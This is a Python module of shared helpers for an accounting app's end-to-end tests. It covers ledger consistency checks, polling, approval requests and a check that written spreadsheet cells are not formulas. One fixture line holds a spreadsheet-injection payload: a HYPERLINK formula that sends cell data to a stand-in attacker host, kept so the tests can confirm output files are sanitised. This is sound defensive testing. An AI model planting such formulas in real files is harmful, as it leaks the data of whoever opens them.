"""Small helpers shared by the end-to-end tests."""

from __future__ import annotations

import time
from collections.abc import Callable
from typing import Any

from quincena.core import db


def count(sql: str, params: Any = None) -> int:
    """The ``n`` column of a one-row query."""
    return db.query_text(sql, params)[0]["n"]


def wait_for(condition: Callable[[], bool], timeout: float, what: str) -> None:
    """Poll a condition until it holds (bounded), never a blind sleep."""
    deadline = time.monotonic() + timeout
    while not condition():
        if time.monotonic() > deadline:
            raise AssertionError(f"timed out after {timeout}s waiting for {what}")
        time.sleep(0.02)


def assert_ledger_matches_answers(delivered: dict[str, int], not_answered: tuple[str, ...] = ()) -> int:
    """The write-ahead ledger against the answers the simulator delivered, key by key; returns the
    number of ``in_flight`` rows.

    A completed row is an answer the client read, so completed rows never exceed the answers. An answer
    delivered to a worker that was killed before recording it is covered by that attempt's ``in_flight``
    row (the kill may also land before the answer was delivered: then the row covers nothing). So, per
    key: completed <= delivered <= completed + in_flight. Outcomes in ``not_answered`` (e.g. a timed-out,
    abandoned attempt) are left out of the completed rows.
    """
    excluded = ("in_flight", *not_answered)
    rows = db.query_text(
        "SELECT key_name, count(*) FILTER (WHERE NOT outcome = ANY(%s)) AS completed,"
        " count(*) FILTER (WHERE outcome = 'in_flight') AS in_flight FROM api_calls GROUP BY 1",
        (list(excluded),),
    )
    ledger = {r["key_name"]: (r["completed"], r["in_flight"]) for r in rows}
    for key in set(ledger) | {k for k, v in delivered.items() if v}:
        completed, in_flight = ledger.get(key, (0, 0))
        assert completed <= delivered.get(key, 0) <= completed + in_flight, (key, completed, in_flight, delivered)
    return sum(in_flight for _, in_flight in ledger.values())


def decide(nit: str, cycle_id: str, decision: str = "approved", by: str = "ana", comment: str | None = None):
    """The accountant answers an approval request for the company-cycle's current books (as a books run would)."""
    from quincena.books import approvals

    asked = approvals.ask_reason(nit, cycle_id)
    request, reason = asked if asked else (f"books__{cycle_id}__{nit}__again", "otra vez")
    approvals.open_request(request, nit, cycle_id, reason, "test")
    return approvals.record(request, approvals.Answer(decision, by, comment), "test-run")


HOSTILE = '=HYPERLINK("http://evil.example/?d="&A1,"ver")'  # text an invoice or a person may carry


def assert_no_formula(cells: Any) -> None:
    """No cell read back from a written file begins with a character a spreadsheet runs as a formula
    (plain numbers such as -1234,56 aside: amounts stay numbers)."""
    from quincena.core.cells import is_formula_like

    bad = [c for c in cells if isinstance(c, str) and is_formula_like(c)]
    assert not bad, bad
